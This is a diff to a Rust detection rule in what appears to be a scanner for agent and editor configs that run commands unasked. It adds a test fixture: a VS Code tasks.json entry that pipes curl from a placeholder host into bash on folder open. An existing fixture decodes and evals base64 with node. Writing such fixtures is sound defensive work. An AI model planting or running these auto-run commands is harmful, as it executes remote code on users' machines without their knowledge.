@@ -1,6 +1,5 @@
 //! Configuration of agents and editors that runs commands without being asked.
 
-use super::Found;
 use super::command::{Danger, judge};
 use super::file::{File, Language};
 use super::jsonc::place;
@@ -24,6 +23,10 @@ pub(super) static CONFIG_RUNS_DOWNLOAD: Rule = Rule {
         &[(
             ".vscode/tasks.json",
             "{ // open\n\"tasks\": [{\"command\": \"node\", \"args\": [\"-e\", \"{}eval(atob('{b64:60}'))\"], \"runOptions\": {\"runOn\": \"folderOpen\"}},],}",
+        )],
+        &[(
+            ".vscode/tasks.json",
+            "{\"tasks\": [{\"osx\": {\"command\": \"curl -L https://x.example.org/a | bash\"}, \"runOptions\": {\"runOn\": \"folderOpen\"}}]}",
         )],
         &[(
             ".mcp.json",
@@ -127,11 +130,9 @@ pub(super) fn search(file: &File<'_>, text: &[u8], found: &mut Findings) {
     }
     for command in commands(file, text) {
         if let Some((rule, why)) = judge_command(&command) {
-            found.push(Found {
-                rule,
-                range: place(text, &command.key),
-                message: format!("{why}: {}", escape(&command.line)),
-                hidden: None,
+            found.push_with(rule, || {
+                let range = place(text, &command.key);
+                (range, format!("{why}: {}", escape(&command.line)))
             });
         }
     }
